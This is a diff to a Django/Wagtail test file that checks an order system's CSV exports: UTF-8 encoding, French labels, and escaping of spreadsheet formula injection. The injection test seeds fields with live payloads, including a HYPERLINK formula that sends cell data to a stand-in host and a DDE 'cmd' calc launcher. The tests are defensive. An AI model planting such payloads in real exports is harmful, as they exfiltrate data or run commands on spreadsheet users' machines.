@@ -1,5 +1,6 @@
 """The order team's side: status changes, stock and its ledger, staff screens, emails that survive outages, reports."""
 
+import codecs
 import csv
 import io
 import smtplib
@@ -15,10 +16,11 @@ from django.core.mail.backends.base import BaseEmailBackend
 from django.core.management import call_command
 from django.db.models import Sum
 from django.urls import reverse
+from wagtail.models import Page
 from wagtail.users.models import UserProfile
 
 from resources import reports
-from resources.models import Basket, BasketLine, Order, OrderEvent, OutgoingEmail, RestockRequest, StockItem
+from resources.models import Agency, Basket, BasketLine, Order, OrderEvent, OutgoingEmail, RestockRequest, StockItem
 from resources.services import pieces_ordered_this_period, submit_order
 from resources.stock import move_stock
 from resources.workflow import TRANSITIONS, change_status
@@ -335,14 +337,64 @@ def test_shipping_one_order_with_an_over_long_carrier_is_refused_not_cut_short(p
 def test_csv_exports_follow_the_filters(shop, manager_client):
     order = place(shop.officer, [("NB-SXT-BR-EN", 100), ("NB-SXT-BR-FR", 50)])
     place(shop.other_officer, [("NB-GAM-PO-EN", 120)])
-    orders = manager_client.get(reverse("resources_order_queue"), {"province": "ON", "export": "orders"})
-    rows = list(csv.reader(io.StringIO(orders.content.decode())))
-    assert rows[0][:3] == ["number", "placed", "status"]
+    rows = exported_rows(manager_client, reverse("resources_order_queue"), {"province": "ON", "export": "orders"})
+    assert rows[0][:3] == ["Order", "Placed", "Status"]
     assert [row[0] for row in rows[1:]] == [order.number]
     assert rows[1][5] == "150"
-    lines = manager_client.get(reverse("resources_order_queue"), {"province": "ON", "export": "lines"})
-    line_rows = list(csv.reader(io.StringIO(lines.content.decode())))
+    line_rows = exported_rows(manager_client, reverse("resources_order_queue"), {"province": "ON", "export": "lines"})
     assert [(row[2], row[5]) for row in line_rows[1:]] == [("NB-SXT-BR-EN", "100"), ("NB-SXT-BR-FR", "50")]
+
+
+def exported_rows(client, url, params):
+    response = client.get(url, params)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    # The byte order mark is what makes Excel read the file as UTF-8.
+    assert response.content.startswith(codecs.BOM_UTF8)
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def test_csv_exports_write_what_users_and_editors_typed_as_text_never_as_a_formula(shop, manager, manager_client):
+    Agency.objects.filter(pk=shop.agency.pk).update(name=FORMULA)
+    shop.agency.addresses.update(label="@SUM(1+1)", line1="+1 Main Street")
+    Page.objects.filter(pk=shop.poster.pk).update(title="-2+3 Poster")
+    order = place(shop.officer, [("NB-GAM-PO-EN", 20)])
+    change_status(order, Status.PACKING, manager)
+    change_status(order, Status.SHIPPED, manager, carrier="=cmd|' /C calc'!A0", tracking="-1+1")
+    queue = reverse("resources_order_queue")
+    [_header, row] = exported_rows(manager_client, queue, {"export": "orders"})
+    assert row[3] == "'" + FORMULA
+    assert row[6].startswith("'@SUM(1+1) / +1 Main Street")
+    assert (row[5], row[7], row[8]) == ("20", "'=cmd|' /C calc'!A0", "'-1+1")
+    [_header, line] = exported_rows(manager_client, queue, {"export": "lines"})
+    assert line[3] == "'-2+3 Poster"
+    assert line[5:] == ["20", "20", "0", "20"]
+    year = date.today().year
+    report = exported_rows(
+        manager_client,
+        reverse("resources_distribution_report"),
+        {"start": f"{year}-01-01", "end": f"{year}-12-31", "export": "csv"},
+    )
+    assert ["Resource", "'-2+3 Poster (NB-GAM-PO-EN)", "20"] in report
+
+
+def test_csv_exports_keep_accented_names_and_use_status_labels_in_the_staff_users_language(
+    shop, manager, manager_client
+):
+    Agency.objects.filter(pk=shop.agency.pk).update(name="Police de Rivière-des-Cèdres")
+    order = place(shop.officer, [("NB-GAM-PO-EN", 120)])
+    assert order.status == Status.NEEDS_REVIEW
+    profile = UserProfile.get_for_user(manager)
+    profile.preferred_language = "fr"
+    profile.save()
+    queue = reverse("resources_order_queue")
+    [header, row] = exported_rows(manager_client, queue, {"export": "orders"})
+    assert header[:3] == ["Commande", "Passée le", "État"]
+    assert (row[2], row[3]) == ("À vérifier", "Police de Rivière-des-Cèdres")
+    [_header, line] = exported_rows(manager_client, queue, {"export": "lines"})
+    assert (line[1], line[4]) == ("À vérifier", "Anglais")
 
 
 def test_packing_slip_has_the_shipping_address_and_lines_in_their_edition_language(shop, manager_client):
